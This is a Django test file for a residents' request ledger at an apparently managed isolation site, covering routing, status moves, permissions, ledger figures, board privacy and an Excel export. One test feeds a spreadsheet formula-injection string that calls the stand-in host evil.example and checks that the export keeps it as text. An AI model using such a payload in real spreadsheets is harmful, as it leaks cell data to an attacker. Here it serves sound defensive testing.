"""Residents' requests (诉求): routing, every move and the refused ones, the ledger's figures, audiences and queries."""

import io
from datetime import timedelta
from decimal import Decimal

from django.core.exceptions import PermissionDenied
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from groups.control.report import daily_report
from groups.general.board import general_board
from groups.security import services as security
from groups.security.models import CheckpointEntry
from rooms import requests as ledger
from rooms import services
from rooms.models import AuditEvent, Request, RequestRoute
from site_ops import boards
from site_ops.boards import Change
from tests.base import SiteTestCase, ViewAccessMixin
from tests.clock import frozen, local
from tests.factories import make_person
from tests.test_medical_hardcases import ListenMixin

MEDICINE = "硝苯地平缓释片"


class RequestTestCase(SiteTestCase):
    def setUp(self):
        services.stay_check_in(person=self.person, room=self.room, by=self.clerk)

    def log(self, what="卫生纸", kind="supplies", urgency="today", by=None, **kwargs):
        kwargs.setdefault("person", self.person)
        return ledger.request_log(
            site=self.site,
            room=self.room,
            by=by or self.clerk,
            kind=kind,
            what=what,
            urgency=urgency,
            **kwargs,
        )


class RoutingTests(RequestTestCase):
    def test_each_kind_goes_to_its_owning_group(self):
        groups = {kind: self.log(kind=kind).group for kind in Request.Kind.values}
        self.assertEqual(
            groups,
            {
                "medicine": "medical",
                "supplies": "general",
                "meal": "catering",
                "emotional": "medical",
                "repair": "general",
                "family": "general",
                "other": "general",
            },
        )

    def test_the_routing_is_site_data(self):
        RequestRoute.objects.create(site=self.site, kind="repair", group="security")
        self.assertEqual(self.log(kind="repair", what="门锁坏了").group, "security")
        self.assertEqual(self.log(kind="supplies").group, "general")

    def test_the_due_time_follows_the_urgency(self):
        with frozen(9) as now:
            urgent = self.log(urgency="urgent")
            today = self.log(urgency="today")
            later = self.log(urgency="when_possible")
        self.assertEqual(urgent.due_at, now + timedelta(hours=1))
        self.assertEqual(today.due_at, now + timedelta(hours=8))
        self.assertEqual(later.due_at, now + timedelta(hours=48))

    def test_a_residents_need_for_an_empty_room_is_refused_a_repair_is_not(self):
        empty = self.rooms[3]
        for kind in ("meal", "supplies", "medicine", "family", "emotional"):
            with self.subTest(kind=kind), self.assertRaisesMessage(ledger.ServiceError, "Nobody is in room"):
                ledger.request_log(site=self.site, room=empty, by=self.guard, kind=kind, what="晚饭要素食")
        self.assertFalse(Request.objects.filter(room=empty).exclude(kind__in=["repair", "other"]).exists())
        repair = ledger.request_log(site=self.site, room=empty, by=self.guard, kind="repair", what="空调漏水")
        self.assertEqual(repair.group, "general")

    def test_logging_is_audited(self):
        request = self.log(kind="medicine", what=MEDICINE, urgency="urgent")
        event = AuditEvent.objects.get(action="request.log")
        self.assertEqual((event.object_id, event.room, event.person), (request.pk, self.room, self.person))
        self.assertEqual(event.after, {"kind": "medicine", "urgency": "urgent", "group": "medical"})


class MoveTests(RequestTestCase):
    def test_open_then_taken_then_resolved_with_who_and_what(self):
        request = self.log(kind="medicine", what=MEDICINE)
        request = ledger.request_take(request=request, by=self.nurse)
        self.assertEqual((request.status, request.taken_by), ("in_progress", self.nurse))
        request = ledger.request_resolve(request=request, by=self.nurse, outcome="已送到房门口")
        self.assertEqual(
            (request.status, request.closed_by, request.resolution), ("resolved", self.nurse, "已送到房门口")
        )
        self.assertEqual(
            list(AuditEvent.objects.filter(object_type="request").order_by("pk").values_list("action", flat=True)),
            ["request.log", "request.take", "request.resolve"],
        )

    def test_an_open_request_can_be_resolved_at_once_or_declined_with_why(self):
        quick = ledger.request_resolve(request=self.log(), by=self.clerk, outcome="已送达")
        self.assertEqual((quick.taken_by, quick.closed_by), (self.clerk, self.clerk))
        declined = ledger.request_decline(
            request=self.log(kind="other", what="想要几本书"), by=self.clerk, reason="不能提供"
        )
        self.assertEqual((declined.status, declined.resolution), ("declined", "不能提供"))

    def test_refused_moves_change_nothing(self):
        request = ledger.request_resolve(request=self.log(), by=self.clerk, outcome="已送达")
        for move in (
            lambda: ledger.request_take(request=request, by=self.clerk),
            lambda: ledger.request_resolve(request=request, by=self.clerk, outcome="again"),
            lambda: ledger.request_decline(request=request, by=self.clerk, reason="no"),
        ):
            with self.assertRaisesMessage(services.ServiceError, "already resolved"):
                move()
        taken = ledger.request_take(request=self.log(), by=self.clerk)
        with self.assertRaisesMessage(services.ServiceError, "already in progress"):
            ledger.request_take(request=taken, by=self.clerk)
        self.assertEqual(self.fresh(request).resolution, "已送达")

    def test_empty_answers_are_refused(self):
        request = self.log()
        with self.assertRaisesMessage(services.ServiceError, "Say what was done"):
            ledger.request_resolve(request=request, by=self.clerk, outcome="  ")
        with self.assertRaisesMessage(services.ServiceError, "Say why"):
            ledger.request_decline(request=request, by=self.clerk, reason="")
        for bad in ({"what": ""}, {"kind": "pizza"}, {"urgency": "asap"}, {"via": "pigeon"}):
            with self.subTest(bad), self.assertRaises(services.ServiceError):
                self.log(**bad)
        self.assertEqual(self.fresh(request).status, "open")
        self.assertEqual(Request.objects.count(), 1)

    def test_a_person_not_in_the_room_is_refused(self):
        other = make_person(self.site, name="王五", national_id="110101199001011234")
        with self.assertRaisesMessage(services.ServiceError, "is not in room"):
            self.log(person=other)
        self.assertFalse(Request.objects.exists())

    def test_only_the_group_it_is_routed_to_and_the_site_head_work_it(self):
        request = self.log(kind="medicine", what=MEDICINE)
        for outsider in (self.clerk, self.cook, self.guard):
            with self.subTest(outsider.username), self.assertRaises(PermissionDenied):
                ledger.request_take(request=request, by=outsider)
        ledger.request_take(request=request, by=self.head)
        self.assertEqual(self.fresh(request).status, "in_progress")

    def test_anyone_on_the_staff_logs_one_but_not_a_login_without_a_group(self):
        for user in (self.head, self.clerk, self.nurse, self.guard, self.cleaner, self.cook):
            self.log(by=user)
        with self.assertRaises(PermissionDenied):
            self.log(by=self.outsider)

    def test_a_stale_edit_is_a_conflict_and_a_double_submit_counts_once(self):
        request = self.log()
        version = request.version
        ledger.request_take(request=request, by=self.clerk)
        with self.assertRaises(services.Conflict):
            ledger.request_resolve(request=request, by=self.clerk, outcome="x", version=version)
        self.log(token="t1")
        with self.assertRaises(services.AlreadySubmitted):
            self.log(token="t1")
        self.assertEqual(Request.objects.count(), 2)

    def test_goods_record_items_source_cost_and_the_hand_over(self):
        request = self.log(kind="medicine", what=MEDICINE, by=self.nurse)
        ledger.request_resolve(
            request=request,
            by=self.nurse,
            outcome="跑了三家药店买到",
            items=[(MEDICINE, Decimal(2), "盒")],
            source="pharmacy",
            cost=Decimal("46.00"),
            handed_to="李秀英",
        )
        request = self.fresh(request)
        self.assertEqual([str(item) for item in request.items.all()], [f"{MEDICINE} 2盒"])
        self.assertEqual((request.source, request.cost, request.handed_to), ("pharmacy", Decimal("46.00"), "李秀英"))

    def test_goods_on_a_request_that_hands_none_over_are_refused(self):
        with self.assertRaisesMessage(services.ServiceError, "Only medicine and supplies"):
            ledger.request_resolve(
                request=self.log(kind="repair", what="水龙头"), by=self.clerk, outcome="修好", cost=Decimal(5)
            )

    def test_a_family_delivery_is_disinfected_before_the_hand_over(self):
        request = self.log(what="孩子的尿不湿")
        with self.captureOnCommitCallbacks(execute=True):
            entry = security.checkpoint_log_in(
                site=self.site,
                kind="delivery",
                name="李秀英家属",
                purpose="送尿不湿",
                by=self.guard,
                request=request.pk,
            )
        self.assertEqual(CheckpointEntry.objects.get().request, request)
        self.assertEqual(self.fresh(request).source, "family")
        self.assertTrue(AuditEvent.objects.filter(action="request.delivery", object_id=request.pk).exists())
        with self.assertRaisesMessage(services.ServiceError, "disinfected before it is handed over"):
            ledger.request_resolve(request=request, by=self.clerk, outcome="已送达", source="family")
        ledger.request_resolve(
            request=request, by=self.clerk, outcome="消毒后送达", source="family", goods_disinfected=True
        )
        self.assertTrue(self.fresh(request).goods_disinfected)
        self.assertTrue(entry.pk)

    def test_only_a_delivery_is_for_a_request(self):
        request = self.log()
        with self.assertRaisesMessage(services.ServiceError, "Only a delivery"):
            security.checkpoint_log_in(
                site=self.site, kind="person", name="张三", purpose="探视", by=self.guard, request=request.pk
            )
        self.assertFalse(CheckpointEntry.objects.exists())


class LedgerFigureTests(RequestTestCase):
    """The headline and the ledger against figures worked out by hand."""

    def constructed_day(self):
        # Logged at 08:00, 09:00, 10:00 and 11:00; resolved after 10, 30, 50 and 90 minutes:
        # the median time is (30 + 50) / 2 = 40 minutes.
        resolved = []
        for hour, minutes, kind, items, cost in (
            (8, 10, "medicine", [(MEDICINE, Decimal(2), "盒")], Decimal("46.00")),
            (9, 30, "medicine", [("布洛芬", Decimal(1), "盒")], Decimal("18.50")),
            (10, 50, "supplies", [("卫生纸", Decimal(1), "提"), ("牙膏", Decimal(2), "支")], None),
            (11, 90, "supplies", [("晾衣架", Decimal(5), "个")], Decimal("15.00")),
        ):
            with frozen(hour):
                request = self.log(kind=kind, what=items[0][0], by=self.head)
            with frozen(hour, minutes) if minutes < 60 else frozen(hour + 1, minutes - 60):
                ledger.request_resolve(
                    request=request, by=self.head, outcome="已送达", items=items, source="stock", cost=cost
                )
            resolved.append(request)
        with frozen(12):
            declined = self.log(kind="other", what="想要几本书")
            ledger.request_decline(request=declined, by=self.head, reason="不能提供")
        with frozen(13):
            self.log(kind="repair", what="空调不制热", urgency="urgent")
            self.log(kind="meal", what="不吃辣", urgency="when_possible")
        # Yesterday's, still open and overdue.
        with frozen(15, days=-1):
            self.log(kind="supplies", what="方便面")
        return resolved

    def test_the_headline_on_a_constructed_day(self):
        self.constructed_day()
        with frozen(16):
            figures = ledger.headline(self.site)
        self.assertEqual(
            {key: figures[key] for key in ("total", "today", "resolved", "declined", "open", "overdue")},
            # 15:00 yesterday + 8 h and 13:00 + 1 h (urgent) are past at 16:00; the meal is due in 48 h.
            {"total": 8, "today": 7, "resolved": 4, "declined": 1, "open": 3, "overdue": 2},
        )
        self.assertEqual(figures["median"], timedelta(minutes=40))
        self.assertEqual(figures["median_minutes"], 40)

    def test_the_ledger_totals_against_hand_computed_sums(self):
        self.constructed_day()
        today = local(12).date()
        totals = ledger.ledger_totals(self.site, today, today)
        kinds = {row["kind"]: row for row in totals["kinds"]}
        self.assertEqual((totals["requests"], totals["resolved"], totals["money"]), (7, 4, Decimal("79.50")))
        self.assertEqual(totals["declined"], sum(row["declined"] for row in totals["kinds"]))
        self.assertEqual(totals["declined"], 1)
        self.assertEqual((kinds["medicine"]["requests"], kinds["medicine"]["money"]), (2, Decimal("64.50")))
        self.assertEqual(
            [(row["unit"], row["quantity"]) for row in kinds["medicine"]["quantities"]], [("盒", Decimal(3))]
        )
        self.assertEqual(
            sorted((row["unit"], row["quantity"]) for row in kinds["supplies"]["quantities"]),
            [("个", Decimal(5)), ("提", Decimal(1)), ("支", Decimal(2))],
        )
        self.assertEqual((kinds["other"]["declined"], kinds["repair"]["requests"]), (1, 1))
        # A period of two days has yesterday's request too, day by day.
        both = ledger.ledger_totals(self.site, today - timedelta(days=1), today)
        self.assertEqual(
            [(day, row["requests"]) for day, row in both["days"]], [(today - timedelta(days=1), 1), (today, 7)]
        )

    def test_the_ledgers_list_narrows_to_what_is_not_done_a_kind_or_a_room(self):
        self.constructed_day()
        today = local(12).date().isoformat()
        self.client.force_login(self.clerk)

        def shown(**narrow):
            with frozen(16):
                page = self.client.get(reverse("request-ledger"), {"first": today, "last": today, **narrow})
            self.assertEqual(page.status_code, 200)
            # The figures stay the whole period's whatever the list shows, and say so when it is narrowed.
            self.assertEqual(page.context["totals"]["requests"], 7)
            narrowed = bool(narrow) and narrow.get("status") != "nonsense"  # an unreadable choice narrows nothing
            self.assertEqual('data-figures="period"' in page.content.decode(), narrowed)
            return sorted(found.what for found in page.context["requests"])

        self.assertEqual(len(shown()), 7)
        # Not done: today's, and yesterday's still open (the figures stay the day's).
        self.assertEqual(shown(status="not_done"), ["不吃辣", "方便面", "空调不制热"])
        self.assertEqual(shown(status="declined"), ["想要几本书"])
        self.assertEqual(shown(kind="medicine"), ["布洛芬", MEDICINE])
        self.assertEqual(shown(status="resolved", kind="supplies"), ["卫生纸", "晾衣架"])
        self.assertEqual(len(shown(room=self.room.number)), 7)
        self.assertEqual(shown(room="9999"), [])
        # An unreadable choice shows the day's list whole rather than an error page.
        self.assertEqual(len(shown(status="nonsense")), 7)

    def test_the_daily_report_counts_the_day(self):
        self.constructed_day()
        with frozen(23):
            sections = {section.key: section for section in daily_report(self.site, local(12).date())}
        rows = {row[0]: row[1:] for row in sections["requests"].rows}
        self.assertEqual(rows[str(Request.Kind.MEDICINE.label)], [2, 2, 0, 0, "64.50"])
        self.assertEqual(rows[str(Request.Kind.SUPPLIES.label)], [2, 2, 0, 1, "15.00"])
        self.assertEqual(rows[str(Request.Kind.REPAIR.label)], [1, 0, 0, 1, "0.00"])

    def test_the_reads_are_constant_in_the_number_of_requests(self):
        today = local(12).date()
        reads = {
            "group list": (lambda: ledger.group_requests(self.site, "general"), 1),
            "pressing": (lambda: ledger.pressing_requests(self.site), 1),
            "headline": (lambda: ledger.headline(self.site), 2),
            "ledger": (lambda: ledger.ledger_totals(self.site, today, today), 3),
            "person": (lambda: ledger.record_requests(person=self.person), 1),
        }
        for size in (2, 40):
            while Request.objects.count() < size:
                request = self.log(urgency="urgent")
                if Request.objects.count() % 3 == 0:
                    ledger.request_resolve(
                        request=request, by=self.clerk, outcome="ok", items=[("纸", Decimal(1), "包")]
                    )
            for name, (read, count) in reads.items():
                with self.subTest(name, requests=size), self.assertNumQueries(count):
                    read()


class ScreenTests(ListenMixin, RequestTestCase):
    def test_the_boards_show_their_own_requests_and_the_headline_moves_live(self):
        self.log(kind="meal", what="不吃辣")
        control = self.listen("control")
        medical = self.listen("medical")
        with self.captureOnCommitCallbacks(execute=True):
            request = self.log(kind="medicine", what=MEDICINE, urgency="urgent")
        html = self.received(*medical)
        self.assertIn(f'id="request-{request.pk}"', html)
        self.assertIn(MEDICINE, html)
        self.assertNotIn("不吃辣", html)
        control_html = self.received(*control)
        self.assertIn('data-counter="requests-open">2<', control_html)
        self.assertIn(MEDICINE, control_html.split('id="pressing-requests"')[1])
        with self.captureOnCommitCallbacks(execute=True):
            ledger.request_resolve(request=request, by=self.nurse, outcome="已送达")
        self.assertIn('data-counter="requests-resolved">1<', self.received(*control))

    def test_catering_never_sees_a_medicine_or_a_diagnosis(self):
        self.person.special_needs = ["chronic"]
        self.person.save()
        self.log(kind="medicine", what=MEDICINE, by=self.nurse)
        self.log(kind="emotional", what="失眠焦虑", by=self.nurse)
        meal = self.log(kind="meal", what="不吃辣")
        catering = self.listen("catering")
        with self.captureOnCommitCallbacks(execute=True):
            ledger.request_take(request=meal, by=self.cook)
        pushed = self.received(*catering)
        self.client.force_login(self.cook)
        page = self.client.get(reverse("catering-board")).content.decode()
        change = boards.board_for_key("catering").render_change(
            Change(site_id=self.site.pk, topics=frozenset({"requests.catering"}))
        )
        snapshot = boards.board_for_key("catering").render_snapshot(self.site.pk, {})
        for html in (page, pushed, change, snapshot):
            self.assertIn("不吃辣", html)
            for hidden in (MEDICINE, "失眠焦虑", "chronic", "慢性病"):
                self.assertNotIn(hidden, html)
        # The checkpoint's form names the room and the kind, never the medicine.
        self.client.force_login(self.guard)
        form = self.client.get(reverse("checkpoint-in")).content.decode()
        self.assertIn(f"{self.room.number} · ", form)
        self.assertNotIn(MEDICINE, form)
        # Each request at the site's time, as the guard's clock reads it (not UTC).
        for logged in Request.objects.filter(kind__in=Request.GOODS_KINDS):
            self.assertIn(f"{timezone.localtime(logged.requested_at):%m-%d %H:%M}", form)
        # The ledger and its export are the general group's and the site head's.
        self.client.force_login(self.cook)
        self.assertEqual(self.client.get(reverse("request-ledger")).status_code, 403)
        self.assertEqual(self.client.get(reverse("request-ledger-xlsx")).status_code, 403)

    def test_the_general_board_lists_its_own_and_the_headline(self):
        self.log(kind="medicine", what=MEDICINE, by=self.nurse)
        self.log(kind="repair", what="水龙头漏水")
        context = general_board(self.site)
        self.assertEqual([r.what for r in context["requests"]], ["水龙头漏水"])
        self.assertEqual(context["request_headline"]["open"], 2)

    def test_a_request_from_the_board_in_two_taps(self):
        self.client.force_login(self.cook)
        board = self.client.get(reverse("catering-board"))
        self.assertContains(board, f'hx-get="{reverse("request-new")}"')
        form = self.client.get(reverse("request-new"), headers={"HX-Request": "true"})
        self.assertContains(form, 'name="kind"')
        data = {"room": self.room.number, "kind": "repair", "urgency": "today", "via": "phone", "what": "灯不亮"}
        response = self.client.post(reverse("request-new"), {**data, "token": "r1"}, headers={"HX-Request": "true"})
        self.assertContains(response, "general group")
        self.assertEqual(Request.objects.get().group, "general")
        again = self.client.post(reverse("request-new"), {**data, "token": "r1"}, headers={"HX-Request": "true"})
        self.assertEqual(again.status_code, 200)
        self.assertEqual(Request.objects.count(), 1)

    def test_a_bad_room_is_a_clear_error(self):
        self.client.force_login(self.clerk)
        data = {"room": "9999", "kind": "repair", "urgency": "today", "via": "phone", "what": "灯不亮", "token": "x"}
        response = self.client.post(reverse("request-new"), data, headers={"HX-Request": "true"})
        self.assertContains(response, "There is no room 9999", status_code=422)
        self.assertFalse(Request.objects.exists())

    def test_resolving_goods_from_the_panel_and_the_ledger_export(self):
        request = self.log(kind="medicine", what=MEDICINE, by=self.nurse)
        self.client.force_login(self.nurse)
        url = reverse("request-resolve", args=[request.pk])
        form = self.client.get(url, headers={"HX-Request": "true"})
        self.assertContains(form, 'name="item_1"')
        data = {
            "version": request.version,
            "token": "g1",
            "outcome": "已送达",
            "source": "pharmacy",
            "cost": "46.00",
            "item_1": MEDICINE,
            "quantity_1": "2",
            "unit_1": "盒",
        }
        self.assertEqual(self.client.post(url, data, headers={"HX-Request": "true"}).status_code, 200)
        self.assertEqual(self.fresh(request).status, "resolved")
        self.client.force_login(self.clerk)
        page = self.client.get(reverse("request-ledger"))
        self.assertContains(page, MEDICINE)
        self.assertContains(page, "46.00")
        response = self.client.get(reverse("request-ledger-xlsx"))
        book = load_workbook(
            io.BytesIO(b"".join(response.streaming_content if response.streaming else [response.content]))
        )
        totals = {row[0]: row for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)}
        self.assertEqual(totals[str(Request.Kind.MEDICINE.label)][1:3], (1, 1))
        self.assertEqual(Decimal(str(totals[str(Request.Kind.MEDICINE.label)][5])), Decimal("46.00"))
        self.assertTrue(AuditEvent.objects.filter(action="export", after__export="requests").exists())

    def test_what_was_asked_stays_text_in_the_ledgers_sheet_never_a_formula(self):
        typed = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
        self.log(kind="repair", what=typed)
        self.client.force_login(self.clerk)
        response = self.client.get(reverse("request-ledger-xlsx"))
        book = load_workbook(
            io.BytesIO(b"".join(response.streaming_content if response.streaming else [response.content]))
        )
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == typed]
        self.assertTrue(cells)
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
        self.assertFalse(
            [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        )

    def test_a_stale_resolve_form_is_a_conflict_not_an_overwrite(self):
        request = self.log()
        self.client.force_login(self.clerk)
        stale = request.version
        ledger.request_take(request=request, by=self.head)
        data = {"version": stale, "token": "s1", "outcome": "已送达", "source": "stock"}
        response = self.client.post(reverse("request-resolve", args=[request.pk]), data, headers={"HX-Request": "true"})
        self.assertEqual(response.status_code, 409)
        self.assertEqual(self.fresh(request).status, "in_progress")

    def test_the_ledger_page_runs_the_same_queries_for_few_and_many_requests(self):
        self.client.force_login(self.clerk)
        counts = []
        for size in (3, 30):
            while Request.objects.count() < size:
                request = self.log()
                ledger.request_resolve(request=request, by=self.clerk, outcome="ok", items=[("纸", Decimal(1), "包")])
            with CaptureQueriesContext(connection) as queries:
                self.assertEqual(self.client.get(reverse("request-ledger")).status_code, 200)
            counts.append(len(queries))
        self.assertEqual(counts[0], counts[1])


class RequestAccessTests(ViewAccessMixin, RequestTestCase):
    def setUp(self):
        super().setUp()

    def urls(self):
        request = self.log(kind="medicine", what=MEDICINE)
        medical = [self.head, self.nurse]
        staff = [self.head, self.clerk, self.nurse, self.cook]
        return {
            "new": (reverse("request-new"), "get", staff),
            "take": (reverse("request-take", args=[request.pk]), "post", medical),
            "resolve": (reverse("request-resolve", args=[request.pk]), "get", medical),
            "decline": (reverse("request-decline", args=[request.pk]), "get", medical),
            "ledger": (reverse("request-ledger"), "get", [self.head, self.clerk]),
            "export": (reverse("request-ledger-xlsx"), "get", [self.head, self.clerk]),
        }
